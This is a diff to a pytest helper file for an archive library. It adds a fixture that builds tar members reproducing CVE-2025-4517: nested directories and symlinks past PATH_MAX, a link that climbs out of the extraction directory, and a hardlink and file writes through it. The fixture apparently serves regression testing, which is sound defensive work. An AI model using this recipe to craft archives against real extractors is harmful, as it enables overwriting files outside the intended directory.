@@ -11,6 +11,7 @@ import gzip
 import hashlib
 import io
 import json
+import os
 import tarfile
 
 import pytest
@@ -123,3 +124,22 @@ def write_tx9(path, data, meta=None, encrypted=False):
     with open(str(path), 'wb') as out:
         archive.write_archive(out, meta, io.BytesIO(data))
     return meta
+
+
+def realpath_limit_members():
+    """CVE-2025-4517 as published: dirs and step links past PATH_MAX, a long link climbing out, writes through it."""
+    steps = 'abcdefghijklmnop'
+    component = 'd' * 247
+    members, path, step_path = [], '', ''
+    for step in steps:
+        members.append(directory(os.path.join(path, component)))
+        members.append(symlink(os.path.join(path, step), component))
+        path = os.path.join(path, component)
+        step_path = os.path.join(step_path, step)
+    link_path = os.path.join(step_path, 'l' * 254)
+    members.append(symlink(link_path, os.path.join(*(['..'] * len(steps)))))
+    members.append(symlink('escape', os.path.join(link_path, '..')))
+    members.append(hardlink('flaglink', os.path.join('escape', 'flag')))
+    members.append(regular('flaglink', b'overwrite'))
+    members.append(regular('escape/newfile', b'new'))
+    return members
